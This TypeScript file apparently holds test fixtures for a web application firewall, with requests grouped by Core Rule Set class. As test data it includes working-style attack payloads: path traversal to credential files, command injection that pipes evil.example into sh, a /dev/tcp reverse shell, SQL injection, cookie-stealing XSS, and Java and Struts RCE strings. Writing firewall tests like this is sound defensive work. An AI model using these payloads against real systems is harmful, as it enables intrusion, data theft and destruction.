import type { Request } from "./waf";

/** One attack of a class of the Core Rule Set: the first three digits of the ids of its rules. */
export interface Attack extends Request {
    readonly class: string;
    readonly what: string;
}

const query = (value: string): Partial<Request> => ({ path: `/search?q=${encodeURIComponent(value)}` });
const form = (value: string): Partial<Request> => ({
    path: "/notes",
    method: "POST",
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
    body: `text=${encodeURIComponent(value)}`,
});
const json = (value: unknown): Partial<Request> => ({
    path: "/notes",
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(value),
});
const multipart = (...parts: string[]): Partial<Request> => ({
    path: "/files",
    method: "POST",
    headers: { "Content-Type": "multipart/form-data; boundary=frontier" },
    body: [...parts.map((part) => `--frontier\r\n${part}\r\n`), "--frontier--\r\n"].join(""),
});
const agent = (name: string): Partial<Request> => ({ headers: { "User-Agent": name } });

const attack = (id: string, what: string, request: Partial<Request>): Attack => ({ class: id, what, ...request });

export const ATTACKS: readonly Attack[] = [
    attack("911", "a method that is not allowed (PROPFIND)", { method: "PROPFIND" }),
    attack("911", "a method that is not allowed (COPY)", { method: "COPY", path: "/notes/1" }),

    attack("913", "the scanner sqlmap", agent("sqlmap/1.7.2#stable (https://sqlmap.org)")),
    attack("913", "the scanner Nikto", agent("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)")),
    attack("913", "the scanner Nuclei", agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),

    attack("920", "a null byte", { path: "/search?q=a%00b" }),
    attack("920", "a media type that is not allowed", {
        ...form("x"),
        headers: { "Content-Type": "application/x-php-serialized" },
    }),
    attack("920", "a character set that is not allowed", {
        ...json({ a: 1 }),
        headers: { "Content-Type": "application/json; charset=ibm500" },
    }),
    attack("920", "a file of a restricted kind", { path: "/backup/users.sql" }),
    attack("920", "a backup file of an editor", { path: "/index.php~" }),
    attack("920", "a restricted header", { headers: { "Lock-Token": "<urn:uuid:150852e2>" } }),
    attack("920", "a body with GET", { method: "GET", headers: { "Content-Length": "3" }, body: "a=b" }),

    attack("921", "a second request inside a body", form("x\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n")),
    attack("921", "a response split by a parameter", query("x\r\nSet-Cookie: session=1")),
    attack("921", "HTML after a split response", query("x\r\n\r\n<html>Hello</html>")),
    attack("921", "a header put into a parameter's name", { path: "/search?a%0d%0aLocation:%20x=1" }),

    attack(
        "922",
        "a part in UTF-7",
        multipart(
            'Content-Disposition: form-data; name="text"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-',
        ),
    ),
    attack(
        "922",
        "an encoded part",
        multipart(
            'Content-Disposition: form-data; name="text"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=',
        ),
    ),
    attack(
        "922",
        "the field that names the character set",
        multipart('Content-Disposition: form-data; name="_charset_"\r\n\r\nutf-7'),
    ),

    attack("930", "a path upwards in a parameter", query("../../../../etc/shadow")),
    attack("930", "a path upwards, encoded twice", { path: "/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow" }),
    attack("930", "a file of the system", query("/etc/passwd")),
    attack("930", "a repository's folder", { path: "/.git/config" }),
    attack("930", "the process's environment", query("/proc/self/environ")),

    attack("931", "a remote file by a number", query("http://198.51.100.7/shell.txt")),
    attack("931", "a remote file for an include", { path: "/?mosConfig_absolute_path=https://evil.example/x" }),
    attack("931", "a remote file with a question mark", query("https://evil.example/shell?")),

    attack("932", "a command after a semicolon", query("; cat /etc/hosts")),
    attack("932", "a command in back quotes", query("`wget http://evil.example/x -O /tmp/x`")),
    attack("932", "a command substituted", form("$(curl evil.example | sh)")),
    attack("932", "a command of Windows", query("& ping -n 10 127.0.0.1")),
    attack("932", "PowerShell", query("powershell.exe Invoke-Expression")),
    attack("932", "Shellshock", { headers: { "User-Agent": "() { :; }; /bin/bash -c 'id'" } }),
    attack("932", "a command inside JSON", json({ note: { text: "x; /bin/bash -i >& /dev/tcp/198.51.100.7/4444" } })),

    attack("933", "PHP's opening tag", query("<?php system('id'); ?>")),
    attack("933", "a stream of PHP", query("php://filter/convert.base64-encode/resource=index")),
    attack("933", "a function of PHP", query("base64_decode('aWQ=');phpinfo();")),
    attack("933", "a variable of PHP", query("$_SERVER['DOCUMENT_ROOT']")),
    attack("933", "an object of PHP", query('O:8:"stdClass":1:{s:1:"a";i:1;}')),

    attack("934", "a function sent to Node's unserialize", json({ rce: "_$$ND_FUNC$$_function(){return 1}()" })),
    attack("934", "an evaluated text", query("eval(fetch(1))")),
    attack("934", "a function's constructor", json({ name: "x.this.constructor.constructor" })),

    attack("941", "a script", query("<script>alert(1)</script>")),
    attack("941", "a handler of events", query('<img src=x onerror="alert(1)">')),
    attack("941", "a link that is a script", form('<a href="javascript:alert(document.cookie)">x</a>')),
    attack("941", "an SVG that is a script", json({ text: "<svg/onload=alert(1)>" })),
    attack("941", "a frame", query('<iframe src="https://evil.example"></iframe>')),

    attack("942", "a condition that is always true", query("1' OR '1'='1")),
    attack("942", "a union", query("1 UNION SELECT username, password FROM users--")),
    attack("942", "a query that waits", query("1; SELECT pg_sleep(10)--")),
    attack("942", "the schema", query("1 AND (SELECT 1 FROM information_schema.tables LIMIT 1)=1")),
    attack("942", "a dropped table inside JSON", json({ name: "x'; DROP TABLE users; --" })),
    attack("942", "an operator of MongoDB", { path: "/search?user[$ne]=1" }),

    attack(
        "943",
        "a cookie set by a page",
        query('<meta http-equiv="set-cookie" content="PHPSESSID=1">.cookie;domain='),
    ),
    attack("943", "a session named by another site", {
        path: "/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666",
        headers: { Referer: "https://evil.example/" },
    }),
    attack("943", "a session named by nobody", { path: "/login?PHPSESSID=74B0CB414BD77D17B5680A6386EF1666" }),

    attack("944", "a class of Java that writes files", query("java.io.FileOutputStream")),
    attack("944", "a class of Java in a header", { headers: { "X-Note": "java.lang.ProcessBuilder" } }),
    attack("944", "Java's runtime", query("java.lang.Runtime.getRuntime().exec('id')")),
    attack("944", "a gadget of Java's deserialisation", form("InvokerTransformer java.lang.Runtime")),
    attack(
        "944",
        "an expression of Struts",
        query("%{(#_memberAccess['allowStaticMethodAccess']=true).(java.lang.ProcessBuilder)}"),
    ),
];
